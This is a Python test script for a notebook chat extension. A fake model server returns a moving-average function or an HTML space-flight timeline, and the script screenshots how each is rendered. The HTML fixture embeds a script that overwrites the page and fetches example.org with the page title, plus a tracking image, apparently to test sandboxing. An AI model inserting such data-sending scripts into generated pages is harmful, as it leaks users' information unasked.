"""Answers that are a page of HTML, or code for a cell below: cells, words, pictures."""

from __future__ import annotations

import time
from pathlib import Path

from lab import Browser, Notebook, until

from loopback import delta, ending, serving

SETUP = """import os
%load_ext nbprovider
os.environ["OPENAI_COMPATIBLE_BASE_URL"] = "{url}/v1"
"""
ASK_CODE = """%%chat openai-compatible:tiny -f code
A function that gives the moving average of a list."""
ASK_PAGE = """%%chat openai-compatible:tiny -f html
The first ten years of space flight, as a page with a timeline."""

CODE = '''def moving_average(values: list[float], width: int = 3) -> list[float]:
    """Return the mean of each run of `width` values."""
    runs = zip(*(values[i:] for i in range(width)))
    return [sum(run) / width for run in runs]'''

PAGE = """<!doctype html>
<html><head><title>Space flight</title><style>
body { margin: 24px; font-family: Georgia, serif; color: #223; }
h1 { font-size: 22px; margin: 0 0 4px; }
p.sub { margin: 0 0 18px; color: #667; }
li { list-style: none; margin: 0; padding: 0 0 14px 18px; border-left: 3px solid #3b6ea5; }
li b { color: #3b6ea5; display: inline-block; width: 3.2em; }
ul { margin: 0; padding-left: 8px; }
</style></head><body>
<h1>The first ten years of space flight</h1>
<p class="sub">From a beep to a walk</p>
<svg width="430" height="46" role="img" aria-label="Launches by year">
<g fill="#3b6ea5"><rect x="0" y="40" width="30" height="6"/><rect x="40" y="30" width="30"
height="16"/><rect x="80" y="28" width="30" height="18"/><rect x="120" y="24" width="30"
height="22"/><rect x="160" y="18" width="30" height="28"/><rect x="200" y="8" width="30"
height="38"/><rect x="240" y="12" width="30" height="34"/><rect x="280" y="4" width="30"
height="42"/><rect x="320" y="0" width="30" height="46"/></g></svg>
<ul><li><b>1957</b> Sputnik 1 orbits the Earth.</li>
<li><b>1958</b> Explorer 1 finds the radiation belts.</li>
<li><b>1961</b> Yuri Gagarin flies once around.</li>
<li><b>1963</b> Valentina Tereshkova flies 48 times around.</li>
<li><b>1965</b> Alexei Leonov leaves his ship for 12 minutes.</li></ul>
<script>document.body.innerHTML = "A script has run.";
fetch("https://example.org/?" + document.title)</script>
<img src="https://example.org/track.png" alt="">
</body></html>"""


def answering(peer) -> None:
    """Answer with code or with a page, as it is asked."""
    asked = str(peer.request["body"]["messages"][-1]["content"])
    said = f"```html\n{PAGE}\n```" if "page" in asked else f"```python\n{CODE}\n```"
    peer.head()
    for start in range(0, len(said), 40):
        peer.chunk(delta(said[start : start + 40]))
        time.sleep(0.01)
    peer.chunk(ending(prompt=58, completion=len(said) // 4))
    peer.end()


def _taken(notebook: Notebook, numbers: tuple[int, int], file: Path) -> None:
    """Take the picture of some neighbouring cells."""
    notebook.page.evaluate("document.activeElement.blur()")
    notebook.page.mouse.move(0, 0)
    notebook.page.wait_for_timeout(600)
    first, last = (notebook.cell(number).bounding_box() for number in numbers)
    clip = {name: first[name] for name in ("x", "y", "width")}
    clip["height"] = last["y"] + last["height"] - first["y"]
    notebook.page.screenshot(path=file, clip=clip)


def formats(lab: Browser, folder: Path, suffix: str, _url: str) -> None:
    """Take a page in its frame, and code in the cell below."""
    with serving(answering) as server:
        setup = SETUP.format(url=server.url)
        with lab.notebook(f"code-{time.monotonic_ns()}", setup, ASK_CODE) as notebook:
            notebook.run(0)
            notebook.run(1)
            until(lambda: "tokens" in notebook.text(1), "no footer was seen")
            until(lambda: "moving_average" in notebook.cell(2).inner_text(), "no cell below")
            _taken(notebook, (1, 2), folder / f"chat-code-below{suffix}.png")
        with lab.notebook(f"page-{time.monotonic_ns()}", setup, ASK_PAGE) as notebook:
            notebook.run(0)
            notebook.run(1)
            until(lambda: notebook.output(1).locator("iframe").count(), "no frame was seen")
            notebook.page.wait_for_timeout(500)
            _taken(notebook, (1, 1), folder / f"chat-html{suffix}.png")
